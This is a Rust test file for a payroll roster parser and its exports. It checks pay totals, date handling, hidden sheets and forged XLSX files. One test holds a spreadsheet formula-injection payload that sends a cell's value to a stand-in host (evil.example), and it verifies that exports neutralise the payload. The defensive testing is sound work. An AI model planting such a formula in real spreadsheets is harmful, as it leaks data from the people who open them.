//! Issue 15: HR's real spreadsheets. Each public-bug input (`tests/fixtures/public_bugs/`,
//! copied from the shared cases; the `mk_*.py` scripts wrote the XLSX files with
//! openpyxl) gives exact pay, warnings and error places.

use paygrade::{compute_roster, Policy};
use paygrade_roster::parse_roster;
use paygrade_text::Lang;

/// An error's place as one key: `row N, column X` for a roster cell, else the field path.
fn loc(e: &paygrade::Error) -> String {
    match &e.cell {
        Some(c) if c.column.is_empty() => format!("row {}", c.row),
        Some(c) => format!("row {}, column {}", c.row, c.column),
        None => e.path.clone(),
    }
}

/// An error in English words, as the CLI prints it.
#[allow(dead_code)]
fn words(e: &paygrade::Error) -> String {
    paygrade_text::error_line(e, paygrade_text::Lang::En)
}

fn file(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/public_bugs/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

fn as_of() -> Option<chrono::NaiveDate> {
    chrono::NaiveDate::from_ymd_opt(2026, 11, 30)
}

/// `(id, grade, rating, total)` per person, and the warnings as `(code, row, column)`.
#[allow(clippy::type_complexity)]
fn pay(
    name: &str,
    sheet: Option<&str>,
) -> (
    Vec<(String, String, String, String)>,
    Vec<(&'static str, Option<usize>, Option<String>)>,
) {
    let roster = parse_roster(&file(name), name, sheet).unwrap();
    let policy = Policy::default().check().unwrap();
    let pay = compute_roster(&policy, &roster.employees, as_of()).unwrap();
    (
        pay.results
            .iter()
            .map(|b| {
                (
                    b.id.clone(),
                    b.grade.clone(),
                    b.rating.clone().unwrap_or_default(),
                    b.total.to_string(),
                )
            })
            .collect(),
        roster
            .warnings
            .iter()
            .map(|w| (w.code, w.row, w.column.clone()))
            .collect(),
    )
}

fn err(name: &str) -> (&'static str, String) {
    let e = parse_roster(&file(name), name, None)
        .and_then(|r| {
            compute_roster(&Policy::default().check().unwrap(), &r.employees, as_of())
                .map_err(|e| r.locate(e))
        })
        .unwrap_err();
    (e.code(), loc(&e))
}

fn one(id: &str, grade: &str, rating: &str, total: &str) -> Vec<(String, String, String, String)> {
    vec![(id.into(), grade.into(), rating.into(), total.into())]
}

#[test]
#[allow(clippy::excessive_precision)] // the cached value as the file holds it
fn n03_a_cached_double_is_read_at_15_digits() {
    // 89.999999999999986 is 90 as Excel shows it: excellent (1.20), 1000 × 1.40 × 1.20.
    let (people, warnings) = pay("n03_excel_15digits.xlsx", None);
    assert_eq!(
        people,
        one("E001", "intermediate-B", "excellent", "3980.00")
    );
    assert!(warnings.is_empty());
    assert_eq!(
        paygrade_roster::xlsx_number_text(89.999_999_999_999_986),
        "90"
    );
    assert_eq!(paygrade_roster::xlsx_number_text(0.1 + 0.2), "0.3");
    assert_eq!(paygrade_roster::xlsx_number_text(1234.5), "1234.5");
}

#[test]
fn n04_a_hidden_first_sheet_is_skipped_and_named() {
    let (people, warnings) = pay("n04_hidden_first_sheet.xlsx", None);
    assert_eq!(people, one("E001", "senior-A", "excellent", "4860.00"));
    assert_eq!(warnings, [("hidden_sheet_skipped", None, None)]);
    let roster = parse_roster(&file("n04_hidden_first_sheet.xlsx"), "x.xlsx", None).unwrap();
    assert_eq!(roster.sheets, ["花名册"]);
    assert_eq!(roster.sheet.as_deref(), Some("花名册"));
    // The hidden sheet can still be asked for by name (`--sheet`).
    let (people, _) = pay("n04_hidden_first_sheet.xlsx", Some("旧花名册"));
    assert_eq!(people, one("E001", "junior-C", "qualified", "2900.00"));
    let e = parse_roster(&file("n04_hidden_first_sheet.xlsx"), "x.xlsx", Some("无")).unwrap_err();
    assert!(words(&e).contains("旧花名册, 花名册"), "{e}");
}

#[test]
fn i15_two_visible_sheets_are_listed_and_each_can_be_read() {
    // mk_two_sheets.py: November's roster first, December's second (the page's sheet
    // selector, tests/e2e/team-exports.test.mjs).
    let roster = parse_roster(&file("i15_two_sheets.xlsx"), "x.xlsx", None).unwrap();
    assert_eq!(roster.sheets, ["11月", "12月"]);
    assert_eq!(roster.sheet.as_deref(), Some("11月"));
    let total = |sheet| {
        let roster = parse_roster(&file("i15_two_sheets.xlsx"), "x.xlsx", sheet).unwrap();
        let pay = compute_roster(
            &Policy::default().check().unwrap(),
            &roster.employees,
            as_of(),
        );
        pay.unwrap().totals.total.to_string()
    };
    // 11月: junior-C 1500 + 500 + 1000 × 1.00 × 0.90 = 2900.00; intermediate-B contract,
    // 6 years: 1500 + 800 + 6 × 4.00 + 1000 × 1.40 × 1.00 = 3724.00.
    assert_eq!(total(None), "6624.00");
    // 12月: junior-B 1500 + 500 + 1000 × 1.10 × 1.00 = 3100.00; intermediate-A contract,
    // 7 years: 1500 + 800 + 28 + 1000 × 1.50 × 1.20 = 4128.00; senior-A 1500 + 1200 +
    // 1000 × 1.80 × 1.20 = 4860.00.
    assert_eq!(total(Some("12月")), "12088.00");
}

#[test]
fn n05_an_error_cell_in_an_unused_column_is_a_warning() {
    let (people, warnings) = pay("n05_error_cell_ignored_column.xlsx", None);
    assert_eq!(
        people,
        [
            (
                "E001".into(),
                "junior-B".into(),
                "good".into(),
                "3100.00".into()
            ),
            (
                "E002".into(),
                "junior-A".into(),
                "excellent".into(),
                "3440.00".into()
            )
        ]
    );
    assert_eq!(
        warnings,
        [
            ("unknown_column", Some(1), Some("备注".into())),
            ("error_cell_ignored", Some(3), Some("备注".into()))
        ]
    );
}

#[test]
fn an_error_cell_in_a_used_column_names_row_and_header() {
    assert_eq!(
        err("i15_error_cell_used_column.xlsx"),
        ("invalid_value", "row 3, column 综合得分".into())
    );
}

#[test]
fn n06_utf16_csv_and_excel_unicode_text() {
    for name in ["n06_utf16le.csv", "n06_excel_unicode_text.txt"] {
        let (people, warnings) = pay(name, None);
        assert_eq!(
            people,
            one("E001", "intermediate-C", "good", "3672.00"),
            "{name}"
        );
        assert!(warnings.is_empty(), "{name}");
    }
}

#[test]
fn n08_the_formula_rating_csv_roster_pays() {
    let (people, _) = pay("n08_roster.csv", None);
    assert_eq!(people, one("E001", "junior-C", "good", "3000.00"));
}

#[test]
fn n11_trailing_commas_are_not_columns() {
    let (people, warnings) = pay("n11_trailing_commas.csv", None);
    assert_eq!(people, one("E001", "junior-C", "good", "3000.00"));
    assert!(warnings.is_empty());
}

#[test]
fn n15_iso_date_cell() {
    // 2015-08-01 to 2026-11-30: 11 completed years, 11 × 6.00 = 66.00 seniority.
    let (people, _) = pay("n15_iso_date_cell.xlsx", None);
    assert_eq!(people, one("E001", "junior-C", "good", "3066.00"));
}

#[test]
fn n16_rows_count_blank_lines() {
    assert_eq!(
        err("n16_blank_line_row_number.csv"),
        ("unknown_band", "row 4, column 档次".into())
    );
    // CRLF line ends, two blank lines.
    let text = "id,level,employment,band,years_in_post,composite_score\r\nA,junior,regular,C,1,80\r\n\r\n\r\nB,junior,regular,X,1,80\r\n";
    let e = parse_roster(text.as_bytes(), "c.csv", None)
        .and_then(|r| {
            compute_roster(&Policy::default().check().unwrap(), &r.employees, None)
                .map_err(|e| r.locate(e))
        })
        .unwrap_err();
    assert_eq!(loc(&e), "row 5, column band");
}

#[test]
fn n17_a_merged_title_row_above_the_header_is_skipped() {
    let (people, warnings) = pay("n17_title_row_merged.xlsx", None);
    assert_eq!(people, one("E001", "junior-C", "good", "3000.00"));
    assert_eq!(warnings, [("header_row", Some(2), None)]);
    // The same in CSV, two title rows.
    let text = "2026年11月客户经理花名册,,\n制表：人力资源部\n工号,等级,用工性质,档次,岗位年限,综合得分\nA1,junior,regular,C,4,85\n";
    let r = parse_roster(text.as_bytes(), "t.csv", None).unwrap();
    assert_eq!(r.header_row, 3);
    assert_eq!(r.warnings[0].code, "header_row");
    assert_eq!(r.warnings[0].params["skipped"], "2");
    assert_eq!(r.sources[0].row, 4);
}

#[test]
fn dates_in_1904_workbooks_and_with_a_time() {
    // Serial 40754 in a 1904 workbook is 2015-08-01 (in 1900 it would be 2011-07-31 + 4
    // years: 2019-08-02, 7 years → 42.00).
    let (people, _) = pay("i15_date1904.xlsx", None);
    let totals: Vec<&str> = people.iter().map(|p| p.3.as_str()).collect();
    assert_eq!(totals, ["3066.00", "3066.00"]);
    let r = parse_roster(&file("i15_date1904.xlsx"), "d.xlsx", None).unwrap();
    let starts: Vec<String> = r
        .employees
        .iter()
        .map(|e| e.post_start.unwrap().to_string())
        .collect();
    assert_eq!(starts, ["2015-08-01", "2015-08-01"]);
}

#[test]
fn text_dates_blank_space_and_styled_rows() {
    let r = parse_roster(&file("i15_text_dates_blank_space.xlsx"), "t.xlsx", None).unwrap();
    let starts: Vec<String> = r
        .employees
        .iter()
        .map(|e| e.post_start.unwrap().to_string())
        .collect();
    assert_eq!(starts, ["2015-08-01"; 4]);
    assert!(r.warnings.is_empty(), "{:?}", r.warnings);
    for t in [
        "2015-08-01T00:00:00",
        "2015-08-01 09:30:00",
        "2015/8/1",
        "2015年8月1日",
        "2015.08.01",
        "2015-8-1",
    ] {
        assert_eq!(
            paygrade_roster::parse_roster_date(t)
                .map(|d| d.to_string())
                .as_deref(),
            Some("2015-08-01"),
            "{t}"
        );
    }
}

#[test]
fn full_width_ids_are_the_same_person() {
    assert_eq!(
        err("i15_fullwidth_duplicate_id.xlsx"),
        ("duplicate_id", "row 3, column 工号".into())
    );
    let text = "工号,等级,用工性质,档次,岗位年限\n Ｅ００２ ,junior,regular,C,1\n";
    let r = parse_roster(text.as_bytes(), "t.csv", None).unwrap();
    assert_eq!(r.employees[0].id, "E002");
}

#[test]
fn formats_by_content() {
    // A CSV named .xlsx is read as text, with a warning; an unknown binary names the formats.
    let r = parse_roster(&file("n08_roster.csv"), "roster.xlsx", None).unwrap();
    assert_eq!(r.warnings[0].code, "format_by_content");
    let e = parse_roster(b"\x89PNG\r\n\x1a\n\0\0\0", "photo.png", None).unwrap_err();
    assert_eq!(e.code(), "invalid_value");
    assert!(words(&e).contains(".xls, .ods"), "{e}");
    // An XLSX named .csv is read as a workbook.
    let r = parse_roster(&file("n17_title_row_merged.xlsx"), "roster.csv", None).unwrap();
    assert_eq!(r.employees.len(), 1);
    // TSV.
    let r = parse_roster(
        b"id\tlevel\temployment\tband\nA\tjunior\tregular\tC\n",
        "r.tsv",
        None,
    )
    .unwrap();
    assert_eq!(r.employees[0].band.as_deref(), Some("C"));
    // Semicolons, as Excel saves "CSV" under a European list separator; a name with a
    // comma stays one cell.
    let r = parse_roster(
        "工号;姓名;等级;档次;用工性质;岗位年限;综合得分\nS1;Li, Ming;中级;B;聘用;12;88.65\n"
            .as_bytes(),
        "r.csv",
        None,
    )
    .unwrap();
    assert_eq!(
        (r.employees[0].name.as_str(), r.employees[0].years_in_post),
        ("Li, Ming", Some(12))
    );
    let pay = compute_roster(
        &paygrade::Policy::default().check().unwrap(),
        &r.employees,
        None,
    )
    .unwrap();
    // Intermediate-B, 12 years, 88.65 (good, 1.00): 1500 + 800 + 72 + 1000 × 1.40 × 1.00,
    // the same as the file with commas gives.
    assert_eq!(pay.results[0].total.to_string(), "3772.00");
}

#[test]
fn n08_a_policy_rating_formula_is_neutralised_in_every_export() {
    let policy = paygrade::Policy::from_json(
        &String::from_utf8(file("n08_policy_formula_rating.json")).unwrap(),
    )
    .unwrap();
    let roster = parse_roster(&file("n08_roster.csv"), "n08_roster.csv", None).unwrap();
    let pay = compute_roster(&policy, &roster.employees, as_of()).unwrap();
    assert_eq!(
        pay.results[0].rating.as_deref(),
        Some("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"good\")")
    );
    let old = paygrade_roster::export::roster_csv(&pay).unwrap();
    let new = paygrade_roster::export::roster_export_csv(
        &roster.employees,
        &pay,
        paygrade_roster::export::Lang::En,
    )
    .unwrap();
    for csv in [&old, &new] {
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        assert!(
            !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
            "{csv}"
        );
    }
}

#[test]
fn exports_read_back_to_the_same_pay_in_both_languages() {
    use paygrade_roster::export::{roster_export_csv, roster_export_xlsx, Lang};
    let policy = Policy::default().check().unwrap();
    let sample = paygrade_roster::sample::sample_roster().unwrap();
    let pay = compute_roster(&policy, &sample.employees, as_of()).unwrap();
    let totals = |p: &paygrade::RosterPay| -> Vec<String> {
        p.results.iter().map(|b| b.total.to_string()).collect()
    };
    for lang in [Lang::Zh, Lang::En] {
        let csv = roster_export_csv(&sample.employees, &pay, lang).unwrap();
        let xlsx = roster_export_xlsx(&sample.employees, &pay, lang).unwrap();
        for (bytes, name) in [(csv.as_bytes().to_vec(), "back.csv"), (xlsx, "back.xlsx")] {
            let back = parse_roster(&bytes, name, None).unwrap();
            let again = compute_roster(&policy, &back.employees, as_of()).unwrap();
            assert_eq!(totals(&again), totals(&pay), "{lang:?} {name}");
            let codes: Vec<&str> = back.warnings.iter().map(|w| w.code).collect();
            let want: &[&str] = if name.ends_with("xlsx") {
                &["result_columns_recomputed", "totals_row_skipped"]
            } else {
                &["result_columns_recomputed"]
            };
            assert_eq!(codes, want, "{lang:?} {name}");
            // The result columns are named (the first of them) and counted, at the header.
            let note = &back.warnings[0];
            let first = if lang == Lang::Zh {
                "定级"
            } else {
                "result_grade"
            };
            assert_eq!(
                (
                    note.row,
                    note.column.as_deref(),
                    note.params.get("count").map(String::as_str)
                ),
                (Some(1), Some(first), Some("11")),
                "{lang:?} {name}"
            );
        }
    }
    let zh = roster_export_csv(&sample.employees, &pay, Lang::Zh).unwrap();
    assert!(
        zh.starts_with("\u{feff}工号,姓名,等级,档次,用工性质"),
        "{zh}"
    );
}

/// The XLSX export writes 入岗日期 as a date cell (Excel sorts and filters it as a date,
/// shown `yyyy-mm-dd`), and it reads back as the same date and the same pay; the CSV
/// export writes it as `YYYY-MM-DD`.
#[test]
fn the_export_writes_post_start_as_a_date_that_reads_back() {
    use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
    use paygrade_roster::export::{roster_export_csv, roster_export_xlsx, Lang};
    let text = "工号,姓名,等级,档次,用工性质,入岗日期,综合得分\nD1,甲,中级,B,聘用,2014/3/1,88\n";
    let roster = parse_roster(text.as_bytes(), "d.csv", None).unwrap();
    let policy = Policy::default().check().unwrap();
    let pay = compute_roster(&policy, &roster.employees, as_of()).unwrap();
    let xlsx = roster_export_xlsx(&roster.employees, &pay, Lang::Zh).unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(xlsx.clone())).unwrap();
    let sheet = book.worksheet_range_at(0).unwrap().unwrap();
    assert_eq!(sheet.get((0, 6)), Some(&Data::String("入岗日期".into())));
    // 2014-03-01 is Excel's day 41699.
    match sheet.get((1, 6)) {
        Some(Data::DateTime(d)) => assert_eq!(d.as_f64(), 41699.0),
        other => panic!("not a date cell: {other:?}"),
    }
    let back = parse_roster(&xlsx, "back.xlsx", None).unwrap();
    assert_eq!(
        back.employees[0].post_start,
        chrono::NaiveDate::from_ymd_opt(2014, 3, 1)
    );
    let again = compute_roster(&policy, &back.employees, as_of()).unwrap();
    assert_eq!(again.results[0].total, pay.results[0].total);
    let csv = roster_export_csv(&roster.employees, &pay, Lang::Zh).unwrap();
    assert!(csv.contains("D1,甲,中级,B,聘用,,2014-03-01,否,"), "{csv}");
}

/// An XLSX written by rust_xlsxwriter with one part rewritten.
fn rewritten(part: &str, edit: impl Fn(String) -> String) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ["工号", "等级", "用工性质", "档次", "岗位年限", "综合得分"]
        .iter()
        .enumerate()
    {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    for (c, v) in ["A1", "junior", "regular", "C"].iter().enumerate() {
        sheet.write_string(1, c as u16, *v).unwrap();
    }
    sheet.write_number(1, 4, 4).unwrap();
    sheet.write_number(1, 5, 85).unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let mut zin = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..zin.len() {
        let mut f = zin.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut text = String::new();
        f.read_to_string(&mut text).unwrap();
        if name == part {
            text = edit(text);
        }
        out.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        out.write_all(text.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

#[test]
fn declared_sizes_are_not_trusted() {
    // A shared-string count no content could hold: a clear error, no allocation.
    let lying = rewritten("xl/sharedStrings.xml", |t| {
        let at = t.find("uniqueCount=\"").unwrap() + 13;
        let end = at + t[at..].find('"').unwrap();
        format!("{}4000000000000{}", &t[..at], &t[end..])
    });
    let e = parse_roster(&lying, "l.xlsx", None).unwrap_err();
    assert_eq!(e.code(), "invalid_value");
    assert!(words(&e).contains("4000000000000 shared strings"), "{e}");
    // A dimension claiming the whole sheet: ignored, the content decides.
    let dim = rewritten("xl/worksheets/sheet1.xml", |t| {
        t.replace(
            "<dimension ref=\"A1:F2\"/>",
            "<dimension ref=\"A1:XFD1048576\"/>",
        )
    });
    let r = parse_roster(&dim, "d.xlsx", None).unwrap();
    assert_eq!(r.employees.len(), 1);
    // A single cell far down in an unused column: one row far down, not a million rows.
    let far = rewritten("xl/worksheets/sheet1.xml", |t| {
        t.replace(
            "</sheetData>",
            "<row r=\"1048576\"><c r=\"F1048576\" t=\"inlineStr\"><is><t>x</t></is></c></row></sheetData>",
        )
    });
    let e = parse_roster(&far, "f.xlsx", None)
        .and_then(|r| {
            compute_roster(&Policy::default().check().unwrap(), &r.employees, None)
                .map_err(|e| r.locate(e))
        })
        .unwrap_err();
    assert_eq!(
        (e.code(), loc(&e).as_str()),
        ("missing_field", "row 1048576, column 等级")
    );
    // A space far to the right is blank space.
    let space = rewritten("xl/worksheets/sheet1.xml", |t| {
        t.replace(
            "</sheetData>",
            "<row r=\"3\"><c r=\"XFD3\" t=\"inlineStr\"><is><t> </t></is></c></row></sheetData>",
        )
    });
    assert_eq!(
        parse_roster(&space, "s.xlsx", None)
            .unwrap()
            .employees
            .len(),
        1
    );
}

/// Cell positions beyond any sheet (found by the `roster_xlsx` fuzz target: calamine
/// adds a reference's letters up in 32 bits, which overflowed on `AAAAAAAAA2`): the file
/// is refused, naming the reference, before calamine reads it — a cell, a row number, a
/// dimension. A reference at the sheet's last cell is still read.
#[test]
fn cell_references_beyond_a_sheet_are_refused() {
    let cases = [
        ("<c r=\"A2\"", "<c r=\"AAAAAAAAA2\"", "AAAAAAAAA2"),
        ("<c r=\"A2\"", "<c r=\"XFE2\"", "XFE2"),
        ("<row r=\"2\"", "<row r=\"99999999999\"", "99999999999"),
        (
            "<dimension ref=\"A1:F2\"/>",
            "<dimension ref=\"A1:ZZZZZZZZZZZZZZ2\"/>",
            "A1:ZZZZZZZZZZZZZZ2",
        ),
    ];
    for (from, to, reference) in cases {
        let forged = rewritten("xl/worksheets/sheet1.xml", |t| {
            assert!(t.contains(from), "{t}");
            t.replacen(from, to, 1)
        });
        let e = parse_roster(&forged, "forged.xlsx", None).unwrap_err();
        assert_eq!(
            (e.code(), words(&e)),
            (
                "invalid_value",
                format!("the workbook places a cell at {reference:?}, beyond any sheet (at most XFD1048576): a damaged or forged file")
            ),
        );
        assert_eq!(
            paygrade_text::error_line(&e, paygrade_text::Lang::Zh),
            format!("工作簿把单元格放在 “{reference}”，超出了工作表的范围（最大 XFD1048576；文件已损坏或被篡改）")
        );
    }
    let last = rewritten("xl/worksheets/sheet1.xml", |t| {
        t.replace(
            "</sheetData>",
            "<row r=\"1048576\"><c r=\"XFD1048576\" t=\"inlineStr\"><is><t> </t></is></c></row></sheetData>",
        )
    });
    assert_eq!(
        parse_roster(&last, "l.xlsx", None).unwrap().employees.len(),
        1
    );
}

/// An Excel binary workbook (`.xlsb`) is recognised and refused with what to do, whatever
/// its name says.
#[test]
fn an_xlsb_workbook_is_refused_with_what_to_do() {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("xl/workbook.bin", zip::write::SimpleFileOptions::default())
        .unwrap();
    zip.write_all(&[0x83, 0x01, 0x00]).unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    for name in ["book.xlsb", "book.xlsx"] {
        let e = parse_roster(&bytes, name, None).unwrap_err();
        assert_eq!(
            (e.code(), words(&e)),
            (
                "invalid_value",
                "an Excel binary workbook (.xlsb) cannot be read: save it as .xlsx in Excel; accepted: .csv, .tsv, .txt (Unicode text), .xlsx, .xlsm, .xls, .ods or .json".to_string()
            ),
            "{name}"
        );
    }
}

#[test]
fn payslips_have_one_header_row_per_person_and_a_blank_row_between() {
    use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
    let policy = Policy::default().check().unwrap();
    let sample = paygrade_roster::sample::sample_roster().unwrap();
    let pay = compute_roster(&policy, &sample.employees, as_of()).unwrap();
    let bytes = paygrade_roster::export::payslips_xlsx(
        &pay,
        &paygrade_text::Names::default(),
        "2026-11",
        paygrade_roster::export::Lang::Zh,
    )
    .unwrap();
    let mut book: Xlsx<_> = open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("工资条").unwrap();
    let rows: Vec<Vec<Data>> = range.rows().map(|r| r.to_vec()).collect();
    let headers = rows
        .iter()
        .filter(|r| r.get(1) == Some(&Data::String("工号".into())))
        .count();
    assert_eq!(headers, 71);
    // Person 1: header, values, blank; the first slip is KM001's 4860.00.
    assert_eq!(rows[1][1], Data::String("KM001".into()));
    assert_eq!(rows[1][8], Data::Float(4860.0));
    assert!(rows[2].iter().all(|c| *c == Data::Empty));
    assert_eq!(rows[3][1], Data::String("工号".into()));
}

#[test]
fn paygrade_exports_that_are_not_rosters_say_so_when_read_as_one() {
    let hr = paygrade_team::HrPolicy::from_json(None).unwrap();
    let p = paygrade::Policy::default().check().unwrap();
    let people = paygrade_roster::sample::sample_roster().unwrap().employees;
    let projection = paygrade_team::project(&hr, &hr, &people, as_of(), 2, false).unwrap();
    for (lang, zh, en) in [
        (Lang::Zh, "这是 Paygrade 导出的逐年成本，不是花名册：请上传花名册，或“导出 CSV / XLSX”得到的人员明细", ""),
        (Lang::En, "", "this is Paygrade's projection export, not a roster: upload a roster, or the people export (Export CSV / XLSX)"),
    ] {
        let csv = paygrade_roster::export::projection_csv(&projection, lang).unwrap();
        let e = parse_roster(csv.as_bytes(), "projection.csv", None).unwrap_err();
        assert_eq!(e.kind.detail_code(), "paygrade_export");
        let said = match lang {
            Lang::Zh => (paygrade_text::error_message(&e.kind, Lang::Zh), zh),
            Lang::En => (paygrade_text::error_message(&e.kind, Lang::En), en),
        };
        assert_eq!(said.0, said.1);
    }
    let pay = compute_roster(&p, &people, as_of()).unwrap();
    let names = paygrade_text::Names::of(p.policy());
    let slips = paygrade_roster::export::payslips_xlsx(&pay, &names, "2026-11", Lang::Zh).unwrap();
    let e = parse_roster(&slips, "工资条.xlsx", None).unwrap_err();
    assert_eq!(
        paygrade_text::error_message(&e.kind, Lang::En),
        "this is Paygrade's payslips export, not a roster: upload a roster, or the people export (Export CSV / XLSX)"
    );
}
